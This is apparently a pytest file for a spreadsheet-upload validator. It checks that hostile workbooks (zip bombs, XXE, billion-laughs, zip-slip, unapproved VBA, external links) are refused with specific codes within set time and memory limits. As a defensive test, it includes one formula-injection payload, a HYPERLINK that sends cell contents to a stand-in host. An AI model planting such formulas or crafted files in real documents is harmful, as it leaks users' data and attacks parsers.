"""Hostile and broken files are refused before any parser sees them, each with its own code,
in bounded time and memory; user text never turns into a formula in what we write."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile

import hostile
import pytest
from conftest import submission

from generators.feedback import write_feedback
from pmokit.base.settings import PackageLimits, Settings
from pmokit.validation.validate import validate_workbook

ZH = Settings()


@pytest.fixture
def valid(forms, blank_forms, tmp_path) -> bytes:
    return submission(forms, blank_forms, tmp_path, "weekly").read_bytes()


def codes(forms, data: bytes, settings: Settings = ZH) -> list[str]:
    return [i.code for i in validate_workbook(data, forms, settings).issues]


def test_the_valid_file_these_are_made_from_is_valid(forms, valid):
    assert codes(forms, valid) == []


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda v: b"", "file-empty"),
        (lambda v: v[: len(v) // 2], "file-truncated"),
        (lambda v: "项目编号,项目名称\nPRJ-2026-001,华东MES\n".encode(), "text-not-workbook"),
        (lambda v: "<html><body>周报</body></html>".encode("gbk"), "text-not-workbook"),
        (lambda v: bytes(range(256)) * 8, "not-a-workbook"),
        (lambda v: hostile.legacy_xls(), "legacy-xls"),
        (hostile.ods, "ods-not-xlsx"),
        (hostile.billion_laughs, "xml-entities"),
        (hostile.xxe, "xml-entities"),
        (hostile.far_cell, "sheet-too-large"),
        (hostile.far_cell_tabs, "sheet-too-large"),
        (hostile.many_rows, "sheet-too-large"),
        (hostile.external_link, "external-links"),
        (hostile.with_vba, "macros-not-allowed"),
        (hostile.zip_slip, "package-invalid"),
        (hostile.too_many_parts, "package-invalid"),
        (hostile.ratio_bomb, "zip-bomb"),
    ],
    ids=[
        "empty",
        "truncated",
        "csv",
        "html",
        "random",
        "xls",
        "ods",
        "billion-laughs",
        "xxe",
        "far-cell",
        "far-cell-tabs",
        "many-rows",
        "external-link",
        "vba",
        "zip-slip",
        "many-parts",
        "ratio-bomb",
    ],
)
def test_each_hostile_kind_has_its_code(forms, valid, make, code):
    report = validate_workbook(make(valid), forms, ZH)
    assert [i.code for i in report.issues] == [code]
    assert not report.valid and report.issues[0].message


def test_encrypted_workbook(forms, valid):
    import io

    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid)).encrypt("secret", out)
    report = validate_workbook(out.getvalue(), forms, ZH)
    assert [i.code for i in report.issues] == ["file-encrypted"]
    assert "密码" in report.issues[0].message


def test_too_large_a_file(forms, valid):
    small = Settings(limits=PackageLimits(max_file_bytes=1000))
    assert codes(forms, valid, small) == ["file-too-large"]


def test_sheet_too_large_names_the_sheet(forms, valid):
    report = validate_workbook(hostile.far_cell(valid), forms, ZH)
    assert report.issues[0].sheet == "周报"
    assert "1048576行" in report.issues[0].message


def test_our_own_vba_is_allowed(forms, valid):
    import hashlib

    project = b"\xd0\xcf\x11\xe0 pmokit buttons"
    allowed = Settings(allowed_vba_hashes=frozenset({hashlib.sha256(project).hexdigest()}))
    assert codes(forms, hostile.with_vba(valid, project), allowed) == []
    assert codes(forms, hostile.with_vba(valid, project)) == ["macros-not-allowed"]


@pytest.mark.soffice
@pytest.mark.parametrize(
    ("target", "code"), [("xls:MS Excel 97", "legacy-xls"), ("ods", "ods-not-xlsx")]
)
def test_real_xls_and_ods_renamed_to_xlsx(forms, soffice, blank_forms, tmp_path, target, code):
    path = submission(forms, blank_forms, tmp_path, "weekly")
    result = soffice("--convert-to", target, "--outdir", str(tmp_path / "out"), str(path))
    assert result.returncode == 0, result.stderr
    converted = next((tmp_path / "out").iterdir())
    renamed = converted.rename(tmp_path / "out" / "weekly.xlsx")
    assert codes(forms, renamed.read_bytes()) == [code]


@pytest.fixture(scope="session")
def gigabyte_bomb(tmp_path_factory):
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    hostile.gigabyte_bomb(path)
    return path


def test_a_1_gb_zip_bomb_is_refused_fast_and_small(gigabyte_bomb):
    """In a fresh process: refused in under a second with under 100 MB of memory."""
    with zipfile.ZipFile(gigabyte_bomb) as archive:
        assert sum(i.file_size for i in archive.infolist()) >= 2**30
    assert gigabyte_bomb.stat().st_size < 5 * 2**20
    probe = (
        "import json, resource, sys, time\n"
        "from pmokit.base.resources import forms_dir\n"
        "from pmokit.base.settings import Settings\n"
        "from pmokit.forms.load import load_forms\n"
        "from pmokit.validation.validate import validate_workbook\n"
        "forms = load_forms(forms_dir())\n"
        "start = time.perf_counter()\n"
        "report = validate_workbook(sys.argv[1], forms, Settings())\n"
        "seconds = time.perf_counter() - start\n"
        # VmHWM is this process's own peak; ru_maxrss on Linux can carry the forking parent's.
        "status = open('/proc/self/status').read() if sys.platform == 'linux' else ''\n"
        "hwm = [int(l.split()[1]) for l in status.splitlines() if l.startswith('VmHWM')]\n"
        "rss = (hwm[0] if hwm else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss) / 1024\n"
        "print(json.dumps({'codes': [i.code for i in report.issues], 's': seconds, 'mb': rss}))\n"
    )
    if sys.platform == "win32":
        pytest.skip("the resource module is POSIX-only")
    result = subprocess.run(
        [sys.executable, "-c", probe, str(gigabyte_bomb)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    measured = json.loads(result.stdout)
    assert measured["codes"] == ["zip-bomb"], measured
    assert measured["s"] < 1.0, measured
    assert measured["mb"] < 100, measured


def test_formula_text_stays_text_in_feedback(forms, blank_forms, tmp_path):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = submission(
        forms,
        blank_forms,
        tmp_path,
        "weekly",
        fields={"project_name": payload, "week_ending": "下周五"},
        rows={("tasks", 0, "task_name"): "@SUM(1,1)", ("tasks", 0, "remaining_days"): "+1+1"},
    )
    data = path.read_bytes()
    report = validate_workbook(data, forms, ZH)
    assert [i.code for i in report.errors] == ["not-a-date", "not-a-number"]
    written = write_feedback(data, report, tmp_path / "fb", "weekly", "zh")
    feedback = written[-1]
    with zipfile.ZipFile(feedback) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name), name
